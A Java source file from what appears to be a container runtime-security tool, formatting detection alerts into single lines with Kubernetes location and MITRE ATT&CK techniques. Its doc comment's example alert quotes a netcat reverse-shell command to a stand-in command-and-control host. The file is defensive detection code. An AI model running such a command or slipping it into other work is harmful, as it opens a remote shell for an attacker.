package dev.vigil.cli.demo;

import dev.vigil.model.alert.Alert;
import dev.vigil.model.alert.Mitre;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.Map;
import java.util.stream.Collectors;

/**
 * One alert as one readable line: time (UTC), priority, rule, where (namespace/pod:container), what
 * (the process's command line, or the peer), and its MITRE ATT&amp;CK techniques, e.g.
 * {@code 18:45:01.234 CRITICAL Reverse shell  shop-web/frontend-7d9:web  nc c2.evil.example 4444 -e /bin/sh  [T1059 execution]}.
 */
final class AlertLine {

    private static final DateTimeFormatter TIME = DateTimeFormatter.ofPattern("HH:mm:ss.SSS").withZone(ZoneOffset.UTC);
    /** Longest command line or peer shown. */
    static final int MAX_WHAT = 70;

    private AlertLine() {
    }

    static String of(Alert a) {
        Map<String, Object> f = a.outputFields();
        String where = f.get("k8s.ns.name") != null ? f.get("k8s.ns.name") + "/" + f.get("k8s.pod.name") : "(node)";
        if (f.get("container.name") != null) {
            where += ":" + f.get("container.name");
        }
        Object what = f.get("proc.cmdline");
        if (what == null && a.peer() != null) {
            what = "-> " + a.peer();
        }
        if (what == null) {
            what = a.subject() != null ? a.subject() : "";
        }
        String shown = what.toString();
        if (shown.length() > MAX_WHAT) {
            shown = shown.substring(0, MAX_WHAT - 1) + "…";
        }
        String mitre = a.mitre().stream().map(m -> m.technique() + " " + m.tactic()).collect(Collectors.joining(", "));
        return String.format("%s %-9s %-42s %-44s %s  [%s]%s", TIME.format(Instant.ofEpochSecond(0, a.timeNanos())),
                a.priority().label().toUpperCase(java.util.Locale.ROOT), a.rule(), where, shown, mitre,
                a.count() > 1 ? " (" + a.count() + " times)" : "");
    }

    /** The techniques of {@code a} as {@code T1059, T1071}. */
    static String techniques(Alert a) {
        return a.mitre().stream().map(Mitre::technique).collect(Collectors.joining(", "));
    }
}
